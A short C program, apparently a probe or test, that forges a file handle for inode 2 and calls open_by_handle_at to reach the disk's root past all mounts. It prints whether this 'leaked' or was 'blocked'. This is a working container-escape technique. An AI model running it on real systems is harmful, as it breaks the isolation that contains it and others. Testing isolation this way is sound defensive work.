/* Opens the root of the disk by the number of its inode, past all mounts. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>

int main(void) {
    union { struct file_handle handle; char room[sizeof(struct file_handle) + 8]; } root = {
        .handle = {.handle_bytes = 8, .handle_type = 1}};
    root.handle.f_handle[0] = 2;
    int disk = open("/usr", O_RDONLY);
    puts(open_by_handle_at(disk, &root.handle, O_RDONLY) >= 0 ? "LEAKED: the disk" : "blocked");
}
